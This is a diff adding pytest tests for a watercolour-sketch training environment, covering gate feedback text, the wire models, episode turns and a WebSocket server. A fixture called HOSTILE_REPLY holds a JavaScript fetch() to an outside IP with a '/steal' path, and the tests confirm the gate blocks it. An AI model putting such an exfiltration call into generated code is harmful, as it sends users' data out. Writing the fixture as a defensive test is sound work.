@@ -1,0 +1,323 @@
+"""Tests for the OpenEnv part: wire models, feedback text, the environment and the server.
+
+Rendering goes through the session-wide ``evaluator`` fixture (tests/conftest.py) and the
+two-circle SMALL_SKETCH, which renders in about a second; hostile replies are stopped by
+the static gate and render nothing. The server tests run uvicorn in-process on 127.0.0.1
+and talk to it through the real ``WatercolourEnv`` WebSocket client.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import base64
+import threading
+import time
+from contextlib import contextmanager
+
+import httpx
+import pytest
+import uvicorn
+from pydantic import ValidationError
+
+from env.contract import REASON_CODES, SketchContract
+from env.core import SketchOutcome
+from env.client import WatercolourEnv, infrastructure_failed, png_bytes
+from env.environment import SharedEvaluator, WatercolourEnvironment
+from env.feedback import MAX_DETAIL_LINES, MAX_FEEDBACK_CHARS, MAX_LINE_CHARS, feedback_text
+from env.models import MAX_RESPONSE_CHARS, WatercolourAction, WatercolourObservation
+from env.server import create_app
+
+from conftest import SMALL_SKETCH
+
+SMALL_REPLY = "Two poppies.\n```js\n" + SMALL_SKETCH + "```\n"
+HOSTILE_REPLY = (
+    "```js\n"
+    "async function setup() { createCanvas(600, 600, WEBGL); noLoop(); }\n"
+    "function draw() {\n"
+    "  fetch('http://203.0.113.9/steal?c=' + width);\n"
+    "  brush.circle(300, 300, 80);\n"
+    "}\n"
+    "```\n"
+)
+PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
+# Words that would turn gate feedback into a judgement of the painting.
+JUDGING_WORDS = ("score", "reward", "reference", "beautiful", "ugly", "good job", "well done")
+
+
+def outcome(**overrides) -> SketchOutcome:
+    fields = dict(
+        code="function setup() {}", passed=False, violations=[], errors=[], paint_fraction=0.0,
+        render_ms=0, png=None, infrastructure_error=None, details=[], stats={}, rendered=False,
+    )
+    fields.update(overrides)
+    return SketchOutcome(**fields)
+
+
+# --- feedback text ------------------------------------------------------------------------
+
+
+def test_feedback_for_a_passing_turn_states_coverage_and_the_next_step():
+    text = feedback_text(outcome(passed=True, paint_fraction=0.1234, png=b"png", rendered=True), 1, 2)
+    assert text.startswith("Turn 1 of 3: your sketch passed the gate.")
+    assert "Paint covers 12% of the canvas; the gate needs at least 0.5%." in text
+    assert "```js" in text and "(2 turns left)" in text
+    assert not any(word in text.lower() for word in JUDGING_WORDS)
+
+
+def test_feedback_explains_each_reason_code_and_caps_the_details():
+    details = [f"line {n}: `fetch()` reaches outside the sketch" for n in range(1, 12)]
+    text = feedback_text(outcome(violations=["external_access", "timer"], details=details), 2, 1)
+    assert "did not pass the gate" in text
+    assert f"- external_access: {REASON_CODES['external_access']}" in text
+    assert f"- timer: {REASON_CODES['timer']}" in text
+    assert sum("reaches outside the sketch" in line for line in text.splitlines()) == MAX_DETAIL_LINES
+    assert f"({len(details) - MAX_DETAIL_LINES} more)" in text
+    assert "was not rendered" in text
+    assert "(1 turn left)" in text
+
+
+def test_feedback_truncates_javascript_errors_and_reports_low_coverage():
+    long_error = "TypeError: " + "x" * 2000
+    text = feedback_text(
+        outcome(violations=["render_error", "blank_canvas"], errors=[long_error], paint_fraction=0.003,
+                png=b"png", rendered=True),
+        1, 3,
+    )
+    error_lines = [line for line in text.splitlines() if line.startswith("- TypeError")]
+    assert len(error_lines) == 1 and len(error_lines[0]) <= MAX_LINE_CHARS
+    assert "Paint covers 0.3% of the canvas; the gate needs at least 0.5%." in text
+
+
+def test_feedback_stays_short_however_many_problems_there_are():
+    violations = list(REASON_CODES)
+    text = feedback_text(
+        outcome(violations=violations, details=["d" * 500] * 50, errors=["e" * 500] * 50), 1, 1,
+    )
+    assert len(text) <= MAX_FEEDBACK_CHARS
+    # Codes that no longer fit with their explanation are still named.
+    assert all(code in text for code in violations)
+    assert text.endswith("(1 turn left)")
+
+
+def test_feedback_on_the_last_turn_and_with_a_custom_threshold():
+    contract = SketchContract(min_paint_fraction=0.02)
+    text = feedback_text(outcome(passed=True, paint_fraction=0.05, png=b"png", rendered=True), 4, 0, contract)
+    assert "the gate needs at least 2.0%" in text
+    assert text.endswith("That was the last turn.")
+
+
+def test_feedback_for_an_infrastructure_failure_does_not_blame_the_sketch():
+    text = feedback_text(outcome(violations=["infrastructure_error"], infrastructure_error="browser_start_failed: x"), 1, 1)
+    assert "not judged" in text and "did not pass" not in text
+    assert "browser_start_failed" not in text
+
+
+# --- wire models ----------------------------------------------------------------------------
+
+
+def test_action_is_size_limited_and_rejects_unknown_fields():
+    with pytest.raises(ValidationError):
+        WatercolourAction(response="x" * (MAX_RESPONSE_CHARS + 1))
+    with pytest.raises(ValidationError):
+        WatercolourAction.model_validate({"response": "x", "code": "y"})
+
+
+def test_observation_fields_are_the_wire_contract():
+    declared = set(WatercolourObservation.model_fields) - {"done", "reward", "metadata"}
+    assert declared == {
+        "image_png_base64", "passed", "violations", "errors", "paint_fraction",
+        "render_ms", "turn", "turns_left", "feedback",
+    }
+
+
+# --- environment in-process -----------------------------------------------------------------
+
+
+def test_reset_validates_its_arguments_and_step_needs_an_episode():
+    environment = WatercolourEnvironment(evaluator=SharedEvaluator())
+    for bad in ({"turns": 0}, {"turns": 17}, {"subject": "   "}, {"seed": -1}, {"colour": "red"}):
+        with pytest.raises(ValueError, match="invalid reset arguments"):
+            environment.reset(**bad)
+    with pytest.raises(RuntimeError, match="call reset"):
+        environment.step(WatercolourAction(response=SMALL_REPLY))
+
+
+def test_episode_in_process_renders_counts_turns_and_ends(evaluator):
+    environment = WatercolourEnvironment(evaluator=evaluator)
+    first = environment.reset(subject="two  poppies\n in a field", seed=11, turns=2)
+    assert first.turn == 0 and first.turns_left == 2 and not first.done
+    assert first.image_png_base64 is None and first.reward is None
+    assert "Paint two poppies in a field as a p5.brush watercolour" in first.feedback
+    assert "brush.circle" in first.feedback
+
+    turn_one = environment.step(WatercolourAction(response=SMALL_REPLY))
+    assert turn_one.passed, turn_one.feedback
+    assert turn_one.violations == [] and turn_one.errors == []
+    assert png_bytes(turn_one).startswith(PNG_SIGNATURE)
+    assert turn_one.paint_fraction >= evaluator.contract.min_paint_fraction
+    assert (turn_one.turn, turn_one.turns_left, turn_one.done) == (1, 1, False)
+    assert turn_one.reward is None and turn_one.metadata["infrastructure_failed"] is False
+    assert "passed the gate" in turn_one.feedback
+
+    # The async path is what the server uses; it must agree with the blocking one.
+    turn_two = asyncio.run(environment.step_async(WatercolourAction(response=SMALL_REPLY)))
+    assert (turn_two.turn, turn_two.turns_left, turn_two.done) == (2, 0, True)
+    assert turn_two.image_png_base64 == turn_one.image_png_base64  # same code, same seed
+    assert environment.state.done and environment.state.step_count == 2
+
+    with pytest.raises(RuntimeError, match="episode .* is over: all 2 turns were taken"):
+        environment.step(WatercolourAction(response=SMALL_REPLY))
+
+
+class _RendererWithoutBrowsers:
+    """Stands in for a SketchEvaluator whose browsers cannot start."""
+
+    contract = SketchContract()
+
+    def evaluate(self, reply, seed=0, deadline_s=None):
+        return outcome(violations=["infrastructure_error"], errors=["browser_start_failed: no display"],
+                       infrastructure_error="browser_start_failed: no display")
+
+    async def evaluate_async(self, reply, seed=0, deadline_s=None):
+        return self.evaluate(reply, seed, deadline_s)
+
+
+class _RendererThatRaises(_RendererWithoutBrowsers):
+    """Stands in for a SketchEvaluator whose event-loop thread has died."""
+
+    def evaluate(self, reply, seed=0, deadline_s=None):
+        raise RuntimeError("renderer loop is closed")
+
+
+def test_infrastructure_failures_are_flagged_not_scored_as_bad_paintings():
+    environment = WatercolourEnvironment(evaluator=_RendererWithoutBrowsers())
+    environment.reset(subject="a lemon", seed=1, turns=2)
+    reported = environment.step(WatercolourAction(response=SMALL_REPLY))
+    assert not reported.passed and reported.reward is None
+    assert "infrastructure_error" in reported.violations
+    assert "browser_start_failed: no display" in reported.errors
+    assert reported.metadata["infrastructure_failed"] is True and infrastructure_failed(reported)
+    assert "not judged" in reported.feedback
+
+    environment = WatercolourEnvironment(evaluator=_RendererThatRaises())
+    environment.reset(subject="a lemon", seed=1, turns=1)
+    raised = asyncio.run(environment.step_async(WatercolourAction(response=SMALL_REPLY)))
+    assert raised.metadata["infrastructure_failed"] is True
+    assert raised.violations == ["infrastructure_error"]
+    assert any("renderer loop is closed" in error for error in raised.errors)
+    assert raised.done and environment.state.infrastructure_failures == 1
+
+
+# --- server over WebSocket --------------------------------------------------------------------
+
+
+@contextmanager
+def running_server(app):
+    """uvicorn on 127.0.0.1 with a free port, in a thread of this process."""
+    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning"))
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    deadline = time.monotonic() + 20
+    while not server.started:
+        if not thread.is_alive() or time.monotonic() > deadline:
+            raise RuntimeError("uvicorn did not start")
+        time.sleep(0.02)
+    port = server.servers[0].sockets[0].getsockname()[1]
+    try:
+        yield f"http://127.0.0.1:{port}"
+    finally:
+        server.should_exit = True
+        thread.join(timeout=10)
+
+
+@pytest.fixture(scope="module")
+def server_url(evaluator):
+    with running_server(create_app(evaluator, max_sessions=8)) as url:
+        yield url
+
+
+def test_http_routes_describe_the_environment(server_url):
+    with httpx.Client(base_url=server_url, timeout=10) as http:
+        assert http.get("/health").json()["status"] == "healthy"
+        assert http.get("/metadata").json()["name"] == "watercolour"
+        schema = http.get("/schema").json()
+        assert "response" in schema["action"]["properties"]
+        assert {"image_png_base64", "turns_left", "feedback"} <= set(schema["observation"]["properties"])
+        assert {"subject", "seed", "turns"} <= set(schema["state"]["properties"])
+
+
+def test_three_concurrent_sessions_keep_independent_episodes(server_url):
+    async def episode(index: int):
+        async with WatercolourEnv(base_url=server_url) as client:
+            started = time.monotonic()
+            result = await client.reset(subject=f"subject number {index}", seed=100 + index, turns=2)
+            observations = [result.observation]
+            while not result.done:
+                result = await client.step(WatercolourAction(response=SMALL_REPLY))
+                observations.append(result.observation)
+            state = await client.state()
+            return started, time.monotonic(), observations, state
+
+    async def all_episodes():
+        return await asyncio.gather(*(episode(index) for index in range(3)))
+
+    results = asyncio.run(all_episodes())
+    # The three episodes really overlapped in time.
+    assert max(started for started, _, _, _ in results) < min(ended for _, ended, _, _ in results)
+
+    images_by_seed = {}
+    for index, (_, _, observations, state) in enumerate(results):
+        assert [o.turn for o in observations] == [0, 1, 2]
+        assert [o.turns_left for o in observations] == [2, 1, 0]
+        assert observations[-1].done and all(o.passed for o in observations[1:])
+        assert all(o.metadata["seed"] == 100 + index for o in observations[1:])
+        assert (state.subject, state.seed, state.step_count, state.done) == (f"subject number {index}", 100 + index, 2, True)
+        first, second = (png_bytes(o) for o in observations[1:])
+        assert first.startswith(PNG_SIGNATURE) and first == second  # each session keeps its own seed
+        images_by_seed[state.seed] = first
+    assert len({state.episode_id for _, _, _, state in results}) == 3
+    # SMALL_SKETCH uses random(): different seeds paint differently.
+    assert len(set(images_by_seed.values())) == 3
+
+
+def test_hostile_reply_over_the_wire_gets_reasons_and_no_render(server_url):
+    with WatercolourEnv(base_url=server_url).sync() as client:
+        client.reset(subject="a harbour", seed=3, turns=2)
+        result = client.step(WatercolourAction(response=HOSTILE_REPLY))
+        observation = result.observation
+        assert not observation.passed and not result.done
+        assert "external_access" in observation.violations
+        assert observation.image_png_base64 is None and observation.turn == 1
+        assert f"external_access: {REASON_CODES['external_access']}" in observation.feedback
+        assert "fetch()" in observation.feedback
+        assert not infrastructure_failed(observation)
+        # Stepping past the end is an error with a readable message.
+        client.step(HOSTILE_REPLY)
+        with pytest.raises(RuntimeError, match="is over: all 2 turns were taken"):
+            client.step(HOSTILE_REPLY)
+        with pytest.raises(RuntimeError, match="invalid reset arguments: turns"):
+            client.reset(subject="a harbour", turns=99)
+
+
+def test_session_limit_is_enforced(evaluator):
+    with running_server(create_app(evaluator, max_sessions=1)) as url:
+        with WatercolourEnv(base_url=url).sync() as first:
+            first.reset(subject="a pear", seed=0, turns=1)
+            with WatercolourEnv(base_url=url).sync() as second:
+                with pytest.raises(RuntimeError, match="CAPACITY_REACHED"):
+                    second.reset(subject="a pear", seed=0, turns=1)
+
+
+def test_module_app_is_built_lazily_without_starting_browsers():
+    import env.server
+
+    app = env.server.app
+    assert app is env.server.app
+    shared = app.state.watercolour_evaluator
+    assert isinstance(shared, SharedEvaluator) and not shared.started
+
+
+def test_png_helper_rejects_data_that_is_not_a_png():
+    assert png_bytes(WatercolourObservation()) is None
+    with pytest.raises(ValueError, match="not hold a PNG"):
+        png_bytes(WatercolourObservation(image_png_base64=base64.b64encode(b"GIF89a").decode()))
